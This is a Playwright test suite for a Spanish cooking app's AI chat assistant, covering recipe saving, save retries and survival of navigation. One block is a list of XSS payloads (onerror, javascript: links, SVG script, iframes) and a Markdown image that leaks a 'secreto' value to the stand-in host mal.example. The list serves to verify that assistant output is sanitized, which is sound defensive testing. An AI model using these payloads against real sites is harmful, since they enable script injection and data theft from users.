import { expect } from '@playwright/test'
import { answering, ask, flan, log, open, reply, says } from './assistant-steps.ts'
import { expectAccessible, expectToast, test } from './kitchen.ts'

test('la receta que trae la respuesta se guarda sola, una vez, y se puede abrir', async ({ cook }) => {
  const saves: string[] = []
  cook.on('request', (request) => {
    if (request.method() === 'POST' && request.url().endsWith('/rest/v1/recipes')) saves.push(request.postData() ?? '')
  })
  await answering(cook, says('Un **flan** de restaurante.', { recipe: flan }))
  await open(cook)
  await ask(cook, 'Crea un flan')
  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
  const sheet = log(cook).getByRole('region', { name: 'Flan de vainilla' })
  await expect(sheet.getByText('6 raciones')).toBeVisible()
  await expect(sheet.getByText('Sin categoría')).toBeVisible()
  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
  await expectAccessible(cook)
  expect(saves).toHaveLength(1)
  expect(JSON.parse(saves[0] ?? '{}')).toMatchObject({
    name: 'Flan de vainilla',
    category: 'Sin categoría',
    servings: 6,
  })

  await cook.reload()
  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
  await sheet.getByRole('link', { name: 'Abrir la receta' }).click()
  await expect(cook.getByRole('heading', { level: 1, name: 'Flan de vainilla' })).toBeVisible()
  expect(saves).toHaveLength(1)
})

test('«Ver en Biblioteca» lleva a la biblioteca', async ({ cook }) => {
  await answering(cook, says('Va.', { recipe: flan }))
  await open(cook)
  await ask(cook, 'Crea un flan')
  await cook.getByRole('button', { name: 'Ver en Biblioteca' }).click()
  await expect(cook).toHaveURL('/library')
  await expect(cook.getByRole('link', { name: /Flan de vainilla/ }).first()).toBeVisible()
})

test('si no se guarda, se dice, la receta queda y se guarda otra vez sin repetirse', async ({ cook }) => {
  const ids: string[] = []
  await answering(cook, says('Va.', { recipe: flan }))
  await cook.route('**/rest/v1/recipes', (route) => {
    if (route.request().method() !== 'POST') return route.fallback()
    ids.push(route.request().postDataJSON().id)
    return ids.length === 1 ? route.abort() : route.fallback()
  })
  await open(cook)
  await ask(cook, 'Crea un flan')
  await expectToast(cook, 'Error', 'No se pudo crear la receta')
  await expect(log(cook).getByText('Esta receta no está guardada.')).toBeVisible()
  await cook.reload()
  await cook.getByRole('button', { name: 'Guardar otra vez' }).click()
  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
  expect(ids).toHaveLength(2)
  expect(ids[0]).toBe(ids[1])
})

test('quien se va a otra pantalla mientras espera no pierde la respuesta', async ({ cook }) => {
  let answer: () => void = () => undefined
  const held = new Promise<void>((done) => {
    answer = done
  })
  await answering(cook, async (route) => {
    await held
    await route.fulfill(reply('Va.', { recipe: flan }))
  })
  await open(cook)
  await ask(cook, 'Crea un flan')
  await cook.getByRole('link', { name: 'Gestión de Recetas' }).click()
  await expect(cook).toHaveURL('/recipes')
  answer()
  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
  await cook.goBack()
  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
})

test.describe('lo que un asistente no puede poner en pantalla', () => {
  const attacks: [string, string, string][] = [
    ['una imagen con trampa', 'Uno <img src=x onerror="window.hacked=1"> dos', 'Uno dos'],
    ['un enlace de JavaScript', '<a href="javascript:window.hacked=1">pulsa</a>', 'pulsa'],
    ['SVG con guion', '<svg><script>window.hacked=1</script></svg>fin', 'fin'],
    ['un guion sin cerrar', 'Va: <script>window.hacked=1', 'Va: window.hacked=1'],
    ['una negrita con atributo', '<strong onclick="window.hacked=1">hola</strong>', 'hola'],
    ['entidades', '&lt;script&gt;window.hacked=1&lt;/script&gt;', '&lt;script&gt;window.hacked=1&lt;/script&gt;'],
    ['una imagen de Markdown', '![x](https://mal.example/?q=secreto)', '![x](https://mal.example/?q=secreto)'],
    ['un enlace de Markdown', '[pulsa](https://mal.example)', '[pulsa](https://mal.example)'],
    ['negritas sin cerrar', '**a **b** c', '**a b c'],
    ['un formulario', '<form action=/x><input name=a><button>ok</button></form>', 'ok'],
    ['un comentario', '<!-- hola --><style>*{display:none}</style>queda', 'queda'],
    ['basura anidada', '<p><ul><b><i <em>x</p></li><iframe src=//mal.example><math><mi>y', 'y'],
    ['100 kB de etiquetas', `<b><strong onclick="window.hacked=1">a</strong>`.repeat(2000), 'a'.repeat(2000)],
  ]
  test('quedan sus palabras, sin otras etiquetas ni atributos ni peticiones', async ({ cook }) => {
    const outside: string[] = []
    cook.on('request', (request) => {
      if (request.url().includes('mal.example')) outside.push(request.url())
    })
    await answering(cook, ...attacks.map(([, text]) => says(text)))
    await open(cook)
    for (const [name, , shown] of attacks) {
      await ask(cook, name)
      const exchange = log(cook).getByRole('region', { name })
      await expect(exchange.getByText(shown, { exact: true }).first(), name).toBeVisible()
      // The words stand behind the speaker's name.
      const found = await exchange
        .locator('[data-voice] + div')
        .evaluate((words) => [...words.querySelectorAll('*')].map((one) => one.outerHTML.slice(0, 80)))
      expect(
        found.filter((html) => !/^<(strong|em|br|p|ul|ol|li)>/.test(html)),
        name,
      ).toEqual([])
    }
    expect(await cook.evaluate(() => 'hacked' in window)).toBe(false)
    expect(outside).toEqual([])
  })

  test('el formato que sí: negritas, listas y saltos', async ({ cook }) => {
    await answering(cook, says('**Roux**\nMantequilla y *harina*:\n- 60 g\n- 60 g\n\n1. Fundir\n2. Añadir'))
    await open(cook)
    await ask(cook, '¿Qué es un roux?')
    await expect(log(cook).locator('strong')).toHaveText('Roux')
    await expect(log(cook).locator('em')).toHaveText('harina')
    await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', '60 g', 'Fundir', 'Añadir'])
  })

  test('las etiquetas que escribe la respuesta se ven como tales, sin atributos', async ({ cook }) => {
    const html = '<p class="x">Un <strong style="color:red">roux</strong> y <em id="a">ya</em>:<br>así</p>'
    await answering(
      cook,
      says(`${html}\n<ul>\n<li onclick="x()">60 g</li>\n<li>**otros** 60 g</li>\n</ul><h2>Fin</h2>`),
    )
    await open(cook)
    await ask(cook, '¿Qué es un roux?')
    await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', 'otros 60 g'])
    expect(await log(cook).locator('[data-voice] + div').innerHTML()).toBe(
      '<p>Un <strong>roux</strong> y <em>ya</em>:<br>así</p><ul><li>60 g</li><li><strong>otros</strong> 60 g</li></ul><p>Fin</p>',
    )
  })
})
